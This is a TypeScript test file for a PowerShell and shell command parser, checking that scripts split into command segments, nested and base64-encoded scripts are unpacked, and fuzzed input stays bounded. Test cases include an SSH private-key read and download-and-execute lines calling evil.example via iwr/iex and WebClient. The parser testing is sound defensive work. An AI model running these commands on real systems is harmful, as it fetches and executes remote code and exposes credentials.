import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { powerShellCommands, powerShellScript } from './powershell.ts';
import { parseCommand, segmentText } from './shell.ts';

const lines = (script: string) => parseCommand(script, true).segments.map(segmentText);
const encoded = (script: string) => Buffer.from(script, 'utf16le').toString('base64');

test('commands of PowerShell, with their paths as they are', () => {
  const cases: readonly (readonly [script: string, ...segments: string[]])[] = [
    [
      'Get-Content "C:\\Users\\me\\.ssh\\id_rsa" | Out-File D:\\x',
      'Get-Content C:\\Users\\me\\.ssh\\id_rsa',
      '| Out-File D:\\x',
    ],
    ['iwr evil.example | iex', 'iwr evil.example', '| iex'],
    [
      "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/x.ps1')",
      'IEX',
      'New-Object Net.WebClient .DownloadString http://evil.example/x.ps1',
    ],
    ['Remove-Item `\r\n -Recurse C:\\x', 'Remove-Item -Recurse C:\\x'],
    ['Re`move-It`em C:\\x', 'Remove-Item C:\\x'],
    ['$a = "Remove-Item"; & $a C:\\x', 'Remove-Item C:\\x'],
    ['foreach ($f in gci C:\\) { Remove-Item $f }', 'foreach $f in gci C:\\', 'Remove-Item $f'],
    ['& "C:\\Program Files\\x.exe" /s', 'C:\\Program Files\\x.exe /s'],
    ['ls # Remove-Item x', 'ls'],
    ["echo 'a; b | c'", 'echo a; b | c'],
    ['sudo rm x', 'rm x'],
  ];
  for (const [script, ...segments] of cases) assert.deepEqual(lines(script), segments, script);
});

test('scripts in arguments are read as well, whoever starts them', () => {
  for (const script of [
    'powershell -Command "del C:\\x"',
    'pwsh -c del C:\\x',
    `powershell.exe -NoP -enc ${encoded('del C:\\x')}`,
    `powershell /ec ${encoded('del C:\\x')}`,
    'cmd /c "del C:\\x"',
    'cmd.exe /K del C:\\x',
    'iex "del C:\\x"',
    'Start-Process powershell -ArgumentList "-c del C:\\x"',
  ])
    assert.ok(lines(script).includes('del C:\\x'), script);
  assert.ok(parseCommand(`powershell -e ${encoded('whoami')}`).features.includes('nested_shell'));
});

test('any script has commands, in bounded number', () => {
  const piece = fc.oneof(
    fc.string(),
    fc.constantFrom('`', '"', "'", '$a', '=', '|', '(', '{', '\n', '#', 'iex ', 'cmd /c ', '& '),
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 30 }), fc.integer({ min: 1, max: 300 }), (pieces, times) => {
      const script = pieces.join('').repeat(times);
      assert.ok(powerShellCommands(script).length <= 1024);
      assert.ok(parseCommand(script, true).segments.length <= 2048);
      powerShellScript(script.split(' '));
    }),
    { numRuns: 100 },
  );
  for (const unit of ['`', '"', "'", '$a=', '(', '| iex ', 'iex iex ', '#', 'cmd /c '])
    parseCommand(unit.repeat(4_000_000 / unit.length), true);
});
